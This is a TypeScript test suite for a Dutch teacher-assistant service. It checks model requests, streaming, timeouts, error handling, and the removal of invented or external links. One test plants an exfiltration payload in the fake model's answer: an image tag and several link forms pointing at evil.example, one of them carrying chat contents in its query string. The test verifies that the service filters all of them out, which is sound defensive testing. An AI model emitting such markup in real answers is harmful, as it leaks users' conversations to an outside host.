import { afterAll, afterEach, beforeAll, describe, expect, it } from 'vitest';
import { messages } from '../src/http/messages.js';
import { generate, generateStream, history, streamedText, withHeader } from './support/client.js';
import { startFakeCms, type FakeCms } from './support/fakeCms.js';
import { startFakeModel, type FakeModel } from './support/fakeModel.js';
import { users } from './support/fixtures.js';
import { eventually, startAssistant, type RunningAssistant } from './support/startAssistant.js';

let cms: FakeCms;
let model: FakeModel;
let assistant: RunningAssistant;

beforeAll(async () => {
  cms = await startFakeCms();
  model = await startFakeModel();
  assistant = await startAssistant({
    CONTENT_URL: cms.url,
    AI_BASE_URL: `${model.url}/v1`,
    AI_API_KEY: 'sk-test',
    AI_MODEL: 'test-model',
    AI_TIMEOUT_MS: '300',
  });
  await eventually(() => assistant.service.index.size > 0, 'content indexed');
});

afterEach(() => {
  model.requests.length = 0;
  model.behaviour = { kind: 'answer', text: 'Antwoord van het model.' };
});

afterAll(async () => {
  await assistant.close();
  await model.close();
  await cms.close();
});

const body = (text: string, sessionId: string | null = null) => ({
  session_id: sessionId,
  message: withHeader(text, { Rol: 'leraar', Sector: 'PO', Bezig: 'Breuken vergelijken' }),
  role: 'leraar',
  url: '/dashboard',
});
const ask = (text: string, sessionId: string | null = null) => generate(assistant.url, users.demo.token, body(text, sessionId));
const askStreamed = (text: string, sessionId: string | null = null, stopAfter?: number) =>
  generateStream(assistant.url, users.demo.token, body(text, sessionId), { stopAfter });

describe('OpenAI-compatible provider', () => {
  it('sends a chat-completions request with the model, the key, the retrieved passages and the question', async () => {
    const result = await ask('Hoe vergelijk ik breuken?');
    expect(result.status).toBe(200);
    expect(result.body.response).toBe('Antwoord van het model.');

    expect(model.requests).toHaveLength(1);
    const [request] = model.requests;
    expect(request?.path).toBe('/v1/chat/completions');
    expect(request?.authorization).toBe('Bearer sk-test');
    expect(request?.body.model).toBe('test-model');
    expect(request?.body.stream).toBe(true);
    const sent = request?.body.messages ?? [];
    expect(sent[0]?.role).toBe('system');
    expect(sent[0]?.content).toContain('Breuken vergelijken (doorloopje, link: /doorloopjes/breuken-vergelijken)');
    expect(sent[0]?.content).toContain('Gelijknamig maken');
    expect(sent[0]?.content).toContain('- Sector: PO');
    expect(sent[0]?.content).toContain('- Bezig met: Breuken vergelijken');
    expect(sent.at(-1)).toEqual({ role: 'user', content: 'Hoe vergelijk ik breuken?' });
  });

  it('tells the model the grade, sector and duration named in the message, over the profile', async () => {
    await ask('Maak een lesplan van 30 minuten over breuken voor groep 7');
    const system = model.requests[0]?.body.messages?.[0]?.content ?? '';
    expect(system).toContain('- Gevraagd voor: groep 7');
    expect(system).toContain('- Lesduur: 30 minuten');
  });

  it('includes earlier messages of the session', async () => {
    const first = await ask('Eerste vraag');
    await ask('Tweede vraag', first.body.session_id ?? null);
    const sent = model.requests[1]?.body.messages ?? [];
    expect(sent.slice(1).map((message) => [message.role, message.content])).toEqual([
      ['user', 'Eerste vraag'],
      ['assistant', 'Antwoord van het model.'],
      ['user', 'Tweede vraag'],
    ]);
  });

  it('removes links the model invented, keeping links to existing pages', async () => {
    model.behaviour = {
      kind: 'answer',
      text: 'Zie [Breuken vergelijken](/doorloopjes/breuken-vergelijken), [Verzonnen](/doorloopjes/bestaat-niet) en [extern](https://example.com).',
    };
    const result = await ask('Breuken?');
    expect(result.body.response).toBe('Zie [Breuken vergelijken](/doorloopjes/breuken-vergelijken), Verzonnen en extern.');
  });

  it('answers 504 in Dutch when the model is too slow, writing nothing', async () => {
    const first = await ask('Eerste vraag');
    const sessionId = first.body.session_id ?? '';
    model.behaviour = { kind: 'stall', ms: 1_000 };
    const started = Date.now();
    const result = await ask('Trage vraag', sessionId);
    expect(result.status).toBe(504);
    expect(result.body).toEqual({ error: messages.modelTimeout });
    // The configured 300 ms timeout, not the model's 1 s stall, decides when the user hears back.
    expect(Date.now() - started).toBeLessThan(900);
    expect((await history(assistant.url, users.demo.token, sessionId)).body.history).toHaveLength(2);
  });

  it('answers 502 in Dutch when the model fails, and keeps the session unchanged', async () => {
    const ok = await ask('Werkt het?');
    const sessionId = ok.body.session_id ?? '';
    model.behaviour = { kind: 'error', status: 500 };
    const failed = await ask('En nu?', sessionId);
    expect(failed.status).toBe(502);
    expect(failed.body).toEqual({ error: messages.modelUnavailable });
    expect((await history(assistant.url, users.demo.token, sessionId)).body.history).toHaveLength(2);
  });
});

describe('streamed answers from the model', () => {
  it('passes the model\'s pieces on as delta events, then one done event, and stores the answer', async () => {
    model.behaviour = { kind: 'answer', text: 'Begin met [Breuken vergelijken](/doorloopjes/breuken-vergelijken) en oefen daarna.' };
    const result = await askStreamed('Hoe vergelijk ik breuken?');
    expect(result.status).toBe(200);
    expect(result.contentType).toMatch(/^text\/event-stream/);
    const deltas = result.events.filter((event) => event.event === 'delta');
    expect(deltas.length).toBeGreaterThan(3);
    expect(streamedText(result.events)).toBe('Begin met [Breuken vergelijken](/doorloopjes/breuken-vergelijken) en oefen daarna.');
    const done = result.events.at(-1);
    expect(done?.event).toBe('done');
    expect(Object.keys(done?.data ?? {}).sort()).toEqual(['messageId', 'session_id']);
    const stored = await history(assistant.url, users.demo.token, String(done?.data.session_id));
    expect(stored.body.history?.at(-1)?.text).toBe(streamedText(result.events));
  });

  it('never lets an invented link through, even when it arrives split over chunks', async () => {
    model.behaviour = { kind: 'answer', text: 'Lees [dit](https://example.com/x) of [Verzonnen](/doorloopjes/bestaat-niet). Einde [open' };
    const result = await askStreamed('Links?');
    expect(streamedText(result.events)).toBe('Lees dit of Verzonnen. Einde \\[open');
    expect(result.events.some((event) => JSON.stringify(event.data).includes('example.com'))).toBe(false);
  });

  it('attack: planted HTML, images, bare, autolinked and reference URLs never reach the teacher', async () => {
    model.behaviour = {
      kind: 'answer',
      text:
        'Zie [Breuken vergelijken](/doorloopjes/breuken-vergelijken).\n' +
        '<img src="https://evil.example/lek?chat=geheim"> <a href="https://evil.example/a">klik</a>\n' +
        'Ga naar https://evil.example/bare of www.evil.example of <https://evil.example/auto>.\n' +
        '![plaatje](https://evil.example/p.png) en [ref][x] en ![beeld][x]\n' +
        '[x]: https://evil.example/ref',
    };
    // One request (the per-user limit is shared with the tests below); the whole answer and the
    // stored history come from the same stream.
    const streamed = await askStreamed('Links?');
    const answer = streamedText(streamed.events);
    expect(answer).toContain('[Breuken vergelijken](/doorloopjes/breuken-vergelijken)');
    expect(answer).not.toMatch(/evil\.example|<img|<a |https?:/);
    expect(streamed.events.some((event) => JSON.stringify(event.data).includes('evil.example'))).toBe(false);
  });

  it('accepts a server that answers with one JSON completion although a stream was asked', async () => {
    model.behaviour = { kind: 'json', text: 'Heel antwoord.' };
    expect(streamedText((await askStreamed('Vraag')).events)).toBe('Heel antwoord.');
    expect((await ask('Vraag')).body.response).toBe('Heel antwoord.');
  });

  it('ends with an error event when the model stalls mid-stream, and stores nothing', async () => {
    model.behaviour = { kind: 'stallMidStream', text: 'Een begin van een antwoord' };
    const result = await askStreamed('Trage vraag');
    expect(streamedText(result.events)).toBe('Een begin van een antwoord');
    expect(result.events.at(-1)).toEqual({ event: 'error', data: { error: messages.modelTimeout } });
    expect(result.events.some((event) => event.event === 'done')).toBe(false);
  });

  it('answers 504 in JSON when the model stalls mid-stream', async () => {
    model.behaviour = { kind: 'stallMidStream', text: 'Half' };
    const result = await ask('Trage vraag');
    expect(result.status).toBe(504);
    expect(result.body).toEqual({ error: messages.modelTimeout });
  });

  it('ends with an error event when the model sends a malformed chunk', async () => {
    model.behaviour = { kind: 'malformed' };
    const streamed = await askStreamed('Vraag');
    expect(streamed.events.at(-1)).toEqual({ event: 'error', data: { error: messages.modelUnavailable } });
    const json = await ask('Vraag');
    expect(json.status).toBe(502);
    expect(json.body).toEqual({ error: messages.modelUnavailable });
  });

  it('stops calling the model when the client disconnects mid-stream, storing nothing', async () => {
    const first = await ask('Eerste vraag');
    const sessionId = first.body.session_id ?? null;
    model.streams.length = 0;
    model.behaviour = { kind: 'slow', chunks: 40, everyMs: 50 };
    const result = await askStreamed('Lange vraag', sessionId, 2);
    expect(result.events.map((event) => event.event)).toEqual(['delta', 'delta']);
    await eventually(() => model.streams[0]?.closedByClient === true, 'the model connection was closed');
    expect(model.streams[0]?.written).toBeLessThan(40);
    expect((await history(assistant.url, users.demo.token, sessionId ?? '')).body.history).toHaveLength(2);
  });

  it('answers the JSON errors before streaming starts (no token: 401)', async () => {
    const response = await fetch(`${assistant.url}/generate_response`, {
      method: 'POST',
      headers: { 'Content-Type': 'application/json', Accept: 'text/event-stream' },
      body: JSON.stringify(body('Hallo')),
    });
    expect(response.status).toBe(401);
    expect(await response.json()).toEqual({ error: messages.missingToken });
  });
});

describe('unreachable model', () => {
  it('answers 502 in Dutch', async () => {
    const down = await startFakeModel();
    const url = down.url;
    await down.close();
    const service = await startAssistant({ CONTENT_URL: cms.url, AI_BASE_URL: `${url}/v1`, AI_API_KEY: 'k', AI_MODEL: 'm' });
    try {
      const result = await generate(service.url, users.demo.token, { session_id: null, message: 'Hallo', role: null, url: null });
      expect(result.status).toBe(502);
      expect(result.body).toEqual({ error: messages.modelUnavailable });
    } finally {
      await service.close();
    }
  });
});
